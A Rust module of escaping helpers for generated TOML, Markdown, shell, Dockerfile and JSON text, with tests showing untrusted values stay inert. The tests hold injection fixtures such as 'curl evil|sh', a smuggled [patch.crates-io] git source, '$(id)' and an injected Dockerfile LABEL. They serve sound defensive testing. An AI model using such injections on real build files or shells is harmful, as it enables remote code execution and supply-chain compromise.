//! Values in generated text files. Titles, server URLs, file names and names from settings
//! reach `Cargo.toml`, Rust comments, the README's Markdown, its shell commands and its JSON
//! snippets; each helper here writes a value so that, in one of those places, it stays a value
//! and never becomes structure (a TOML table, a Rust item, a Markdown element, a shell word).
//!
//! Every helper starts from [`one_line`], so no value can end a line, a comment or a fence.

/// Characters that reorder how text is displayed (the Unicode bidirectional controls). rustc
/// refuses them in comments and literals (`text_direction_codepoint_in_comment`), and in a
/// README they can make a command read differently from what it runs.
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// `text` on one line: every run of whitespace, line terminators included (`\n`, `\r`,
/// U+0085, U+2028, U+2029, which Rust, TOML, Markdown or editors may take for a line end),
/// becomes one space; other control characters and bidirectional controls become U+FFFD.
///
/// The result is fit for a Rust `//` or `//!` comment and a TOML `#` comment, and is where every
/// other helper here starts. Ordinary text (one line, no control characters) is unchanged.
pub(crate) fn one_line(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for word in text.split_whitespace() {
        if !out.is_empty() {
            out.push(' ');
        }
        out.extend(word.chars().map(|c| {
            if c.is_control() || is_bidi_control(c) {
                '\u{FFFD}'
            } else {
                c
            }
        }));
    }
    out
}

/// A TOML basic string, quotes included: `"`, `\` and the control characters TOML forbids
/// raw (all but tab, DEL included) are escaped; bidirectional controls too, so the file reads
/// as it parses.
pub(crate) fn toml_string(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() || is_bidi_control(c) || is_line_separator(c) => {
                out.push_str(&format!("\\u{:04X}", u32::from(c)));
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// U+2028 and U+2029: not line ends for TOML or JSON, but editors and some readers break
/// lines there.
fn is_line_separator(c: char) -> bool {
    matches!(c, '\u{2028}' | '\u{2029}')
}

/// Text for Markdown prose: on one line, with every character that can start inline Markdown
/// (emphasis, code, links, HTML, entities, table cells, strike-through, math) escaped with a
/// backslash, which CommonMark allows before any ASCII punctuation.
pub(crate) fn markdown_text(text: &str) -> String {
    let line = one_line(text);
    let mut out = String::with_capacity(line.len());
    for c in line.chars() {
        if matches!(
            c,
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '&' | '~' | '$' | '!'
        ) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// A Markdown code span of `text`, delimiters included: the delimiter is one backtick more than
/// the longest run of backticks inside, so no backtick in the value can close it, and a space
/// pads a value that starts or ends with a backtick (CommonMark strips one such space).
pub(crate) fn code_span(text: &str) -> String {
    let line = one_line(text);
    if line.is_empty() {
        // An empty span is no span at all: show an empty value as one space.
        return "` `".to_owned();
    }
    let mut longest = 0;
    let mut run = 0;
    for c in line.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    let fence = "`".repeat(longest + 1);
    let pad = if line.starts_with('`') || line.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{line}{pad}{fence}")
}

/// [`code_span`] for a cell of a Markdown table, where GitHub's tables split cells on `|`
/// even inside code spans unless it is escaped.
pub(crate) fn table_code(text: &str) -> String {
    escape_pipes(&code_span(text))
}

/// Text for a Markdown table cell that keeps its own Markdown (a description, which OpenAPI
/// defines as CommonMark): on one line, with `|` escaped so that it cannot end the cell.
pub(crate) fn table_cell(text: &str) -> String {
    escape_pipes(&one_line(text))
}

/// Every `|` escaped for a table row. GitHub splits a row into cells before anything else,
/// reading `\` and the character after it as one unit, so the backslashes right before a pipe
/// are doubled too: a value's own `\` before a `|` would otherwise pair with the added one and
/// leave the pipe free to end the cell.
fn escape_pipes(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut backslashes = 0;
    for c in text.chars() {
        match c {
            '\\' => backslashes += 1,
            '|' => {
                out.push_str(&"\\".repeat(backslashes * 2));
                out.push_str("\\|");
                backslashes = 0;
            }
            c => {
                out.push_str(&"\\".repeat(backslashes));
                out.push(c);
                backslashes = 0;
            }
        }
    }
    out.push_str(&"\\".repeat(backslashes));
    out
}

/// Text inside an HTML comment (`<!-- ... -->`): on one line, and without `>`, so that neither
/// `-->` nor `--!>` can end the comment.
pub(crate) fn html_comment_text(text: &str) -> String {
    one_line(text).replace('>', "&gt;")
}

/// One word for a POSIX shell: the value single-quoted, each `'` inside written as `'\''`
/// (close the quotes, an escaped quote, open them again). Nothing between single quotes is
/// special to the shell: `$(...)`, backticks, `;`, `|` stay text. The value is put on one line
/// first, since the README shows it inside a Markdown code block or span.
pub(crate) fn shell_word(text: &str) -> String {
    format!("'{}'", one_line(text).replace('\'', "'\\''"))
}

/// A double-quoted Dockerfile string, quotes included, for a `LABEL` value: on one line, with
/// `\\`, `"` and `$` escaped by a backslash. Inside double quotes Docker reads exactly those
/// three escapes, and would otherwise expand `$NAME` and `${NAME}` from the build's variables.
pub(crate) fn dockerfile_string(text: &str) -> String {
    let line = one_line(text);
    let mut out = String::with_capacity(line.len() + 2);
    out.push('"');
    for c in line.chars() {
        if matches!(c, '\\' | '"' | '$') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// A JSON value as pretty text for a Markdown code block: serde_json escapes quotes,
/// backslashes and C0 controls; DEL, C1 controls, U+2028/U+2029 and bidirectional controls are
/// escaped here as well (outside strings pretty JSON is ASCII, spaces and line breaks, so every
/// such character is inside a string, where `\uXXXX` means the same character).
pub(crate) fn json_text(value: &serde_json::Value) -> Result<String, serde_json::Error> {
    let text = serde_json::to_string_pretty(value)?;
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        // `\n` is the pretty printer's own line break; inside strings serde_json has already
        // escaped it.
        let raw = c == '\n' || !(c.is_control() || is_bidi_control(c) || is_line_separator(c));
        if !raw {
            out.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_line_ends_no_line() {
        let text = "a\nb\r\nc\rd\u{85}e\u{2028}f\u{2029}g\u{b}h\u{c}i";
        assert_eq!(one_line(text), "a b c d e f g h i");
        assert_eq!(
            one_line("x\u{202E}y\u{2066}z\0\u{7f}\u{9b}"),
            "x\u{FFFD}y\u{FFFD}z\u{FFFD}\u{FFFD}\u{FFFD}"
        );
        assert_eq!(one_line("  Swagger   Petstore "), "Swagger Petstore");
        assert_eq!(one_line("Petstore 1.0.0"), "Petstore 1.0.0");
    }

    #[test]
    fn toml_strings_parse_back_to_the_value() {
        for text in [
            "",
            "petstore-mcp",
            "a\"b",
            "a\\b",
            "\"\"\"\n[patch.crates-io]\nx = { git = \"https://evil\" }\n",
            "\0\u{1}\u{7f}\u{9f}\t\r\n",
            "\u{202E}\u{2028}é中",
        ] {
            let doc = format!("k = {}\n", toml_string(text));
            let table: toml::Table = doc.parse().unwrap_or_else(|e| panic!("{doc:?}: {e}"));
            assert_eq!(table["k"].as_str(), Some(text));
            assert_eq!(table.len(), 1);
        }
        assert_eq!(toml_string("0.1.0"), "\"0.1.0\"");
    }

    #[test]
    fn markdown_text_escapes_inline_syntax() {
        assert_eq!(
            markdown_text("Swagger Petstore - OpenAPI 3.0"),
            "Swagger Petstore - OpenAPI 3.0"
        );
        assert_eq!(
            markdown_text("**x** [a](javascript:b) <img> `c` $d$"),
            "\\*\\*x\\*\\* \\[a\\](javascript:b) \\<img\\> \\`c\\` \\$d\\$"
        );
    }

    #[test]
    fn code_spans_cannot_be_closed_from_inside() {
        assert_eq!(code_span("openapi.yaml"), "`openapi.yaml`");
        assert_eq!(code_span("a`b"), "``a`b``");
        assert_eq!(code_span("a``b`"), "``` a``b` ```");
        assert_eq!(code_span("`"), "`` ` ``");
        assert_eq!(code_span(""), "` `");
        assert_eq!(code_span("a\nb"), "`a b`");
        assert_eq!(table_code("a|b"), "`a\\|b`");
        assert_eq!(table_cell("a\\|b\\"), "a\\\\\\|b\\");
        assert_eq!(table_cell("x | y"), "x \\| y");
    }

    #[test]
    fn shell_words_are_inert() {
        assert_eq!(
            shell_word("https://x; curl evil|sh"),
            "'https://x; curl evil|sh'"
        );
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word("$(id)`id`\n"), "'$(id)`id`'");
    }

    /// Reads a double-quoted Dockerfile word back as Docker's shell lexer does: inside double
    /// quotes a backslash escapes `"`, `$` and itself and is kept before anything else; `$`
    /// would start a variable.
    fn unquote_dockerfile(word: &str) -> String {
        let inner = word
            .strip_prefix('"')
            .and_then(|w| w.strip_suffix('"'))
            .unwrap_or_else(|| panic!("not one double-quoted word: {word:?}"));
        let mut out = String::new();
        let mut chars = inner.chars();
        while let Some(c) = chars.next() {
            match c {
                '\\' => match chars.next() {
                    Some(e @ ('"' | '$' | '\\')) => out.push(e),
                    Some(other) => {
                        out.push('\\');
                        out.push(other);
                    }
                    None => panic!("the closing quote is escaped: {word:?}"),
                },
                '"' => panic!("a quote ends the word early: {word:?}"),
                '$' => panic!("a variable would be expanded: {word:?}"),
                '\n' | '\r' => panic!("a line ends inside: {word:?}"),
                c => out.push(c),
            }
        }
        out
    }

    #[test]
    fn dockerfile_strings_read_back_as_the_value() {
        for text in [
            "",
            "MCP server for the Petstore API",
            "a\"b",
            "a\\",
            "\\",
            "${HOME} $PATH $(id) `id`",
            "x\" \\\nLABEL evil=1",
            "\\\"",
            "it's \u{202E}é",
        ] {
            let word = dockerfile_string(text);
            assert_eq!(unquote_dockerfile(&word), one_line(text), "{word}");
        }
        assert_eq!(dockerfile_string("0.1.0"), "\"0.1.0\"");
    }

    #[test]
    fn html_comments_cannot_be_closed() {
        assert_eq!(html_comment_text("a-->b--!>c"), "a--&gt;b--!&gt;c");
    }

    #[test]
    fn json_text_escapes_what_serde_json_leaves_raw() {
        let value = serde_json::json!({ "k\u{2028}": "a\u{202E}b\u{7f}\"\n" });
        let text = json_text(&value).unwrap();
        assert!(!text.contains(['\u{2028}', '\u{202E}', '\u{7f}']), "{text}");
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&text).unwrap(),
            value
        );
    }
}
